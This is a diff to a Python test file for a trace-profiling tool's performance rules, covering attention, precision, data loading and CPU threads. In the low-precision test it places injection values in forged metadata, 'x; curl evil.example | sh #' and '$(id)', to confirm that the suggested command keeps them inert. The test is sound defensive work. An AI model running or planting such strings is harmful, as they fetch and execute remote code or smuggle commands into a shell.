@@ -66,38 +66,6 @@ def rules(built: TraceBuilder, folder: Path) -> list[str]:
     return [finding.rule for finding in found(built, folder).findings]
 
 
-def attention(*between: str) -> TraceBuilder:
-    """On the CPU: product, softmax, product, of 10, 30 and 20 ms, each 1 ms after the one before."""
-    built = request().op("aten::matmul", 10 * MS, 10 * MS).op("aten::bmm", 11 * MS, 8 * MS)
-    for place, name in enumerate(between):
-        built.op(name, 20 * MS + place * 1000, 900)
-    built.op("aten::softmax", 21 * MS, 30 * MS).op("aten::_softmax", 22 * MS, 28 * MS)
-    return built.op("aten::matmul", 52 * MS, 20 * MS)
-
-
-def test_unfused_attention(tmp_path: Path) -> None:
-    finding = one(attention(), tmp_path, "unfused_attention")
-    assert ceiling_ms(finding) == 10 + 30 + 20
-    assert finding.evidence.startswith("1 softmax ops between two matrix products: the softmax takes 30.000 ms")
-    # A classifier's softmax, with no product behind it; and one with many ops between.
-    classifier = request().op("aten::matmul", 10 * MS, 10 * MS).op("aten::softmax", 21 * MS, 30 * MS)
-    assert "unfused_attention" not in rules(classifier, tmp_path)
-    assert "unfused_attention" not in rules(attention(*["aten::mul"] * 13), tmp_path)
-
-
-def test_unfused_attention_on_a_device_counts_what_the_ops_launched(tmp_path: Path) -> None:
-    built = request().op("aten::bmm", 0, 90_000).launch(1, 10_000, 5000).kernel("gemm", 1 * MS, 10 * MS, correlation=1)
-    built.op("aten::softmax", 100_000, 90_000).launch(2, 110_000, 5000)
-    built.kernel("softmax_warp_forward", 11 * MS, 40 * MS, correlation=2)
-    built.op("aten::bmm", 200_000, 90_000).launch(3, 210_000, 5000).kernel("gemm", 51 * MS, 20 * MS, correlation=3)
-    finding = one(waiting(built, 1, 71), tmp_path, "unfused_attention")
-    # The wait ends at 71 and would begin at 1, less the 0.27 ms of the three ops.
-    assert ceiling_ms(finding) == 71 - 1 + 0.27
-    unlinked = request().kernel("softmax_warp_forward", 0, 50 * MS)
-    lacking = {each.rule: each.record for each in found(waiting(unlinked, 1, 50), tmp_path).abstentions}
-    assert lacking["unfused_attention"] == "the CPU's ops too"
-
-
 def test_data_loader(tmp_path: Path) -> None:
     name = "enumerate(DataLoader)#_SingleProcessDataLoaderIter.__next__"
     built = TraceBuilder().range("ProfilerStep#1", 0, 100 * MS).range(name, 0, 30 * MS).op("aten::mm", 30 * MS, 60 * MS)
@@ -187,11 +155,14 @@ def test_low_precision(tmp_path: Path) -> None:
     assert finding.confidence is Confidence.LOW
     assert finding.check == "gemma-trace compare --set dtype=float32,bfloat16 --set device=cpu"
     forged = products("float32")
-    config = METADATA.config | {"model": "x; curl evil.example | sh #", "dtype": "$(id)"}
+    config = METADATA.config | {"model": "x; curl evil.example | sh #", "prompt": "$(id)"}
     forged.metadata(replace(METADATA, run=replace(METADATA.run, dtype="float32"), config=config))
-    words = shlex.split(one(forged, tmp_path, "low_precision").check)
-    settings = ["--set", "dtype=$(id),bfloat16", "--set", "model=x; curl evil.example | sh #", "--set", "device=cpu"]
-    assert words == ["gemma-trace", "compare", *settings], "a trace puts nothing into a shell"
+    _, command = one(forged, tmp_path, "low_precision").check.split(": ")
+    settings = [
+        *("--set", "dtype=float32,bfloat16", "--set", "model=x; curl evil.example | sh #"),
+        *("--set", "device=cpu", "--set", "prompt=$(id)"),
+    ]
+    assert shlex.split(command) == ["gemma-trace", "compare", *settings], "a trace puts nothing into a shell"
     assert "low_precision" not in rules(products("bfloat16"), tmp_path)
     for known, missing in ((False, "this CPU (A CPU) has no instructions for bfloat16"), (None, "isn't recorded")):
         environment = replace(METADATA.environment, cpu_bfloat16=known)
@@ -325,14 +296,16 @@ def test_kv_cache(tmp_path: Path) -> None:
 
 
 def test_cpu_threads(tmp_path: Path) -> None:
-    def of(threads: int) -> TraceBuilder:
-        environment = replace(METADATA.environment, host_cores=4, torch_threads=threads)
+    def of(threads: int, usable: int | None = None) -> TraceBuilder:
+        environment = replace(METADATA.environment, host_cores=4, torch_threads=threads, usable_cores=usable)
         return request().op("aten::mm", 10 * MS, 80 * MS).metadata(replace(METADATA, environment=environment))
 
     finding = one(of(1), tmp_path, "cpu_threads")
     assert ceiling_ms(finding) == 60
     assert "OMP_NUM_THREADS=4" in finding.change
     assert "cpu_threads" not in rules(of(4), tmp_path)
+    assert "cpu_threads" not in rules(of(1, usable=1), tmp_path), "a process that has one core alone"
+    assert "1 of 2 cores" in one(of(1, usable=2), tmp_path, "cpu_threads").evidence
 
 
 def test_every_rule_is_tested_and_says_where_it_is_from() -> None:
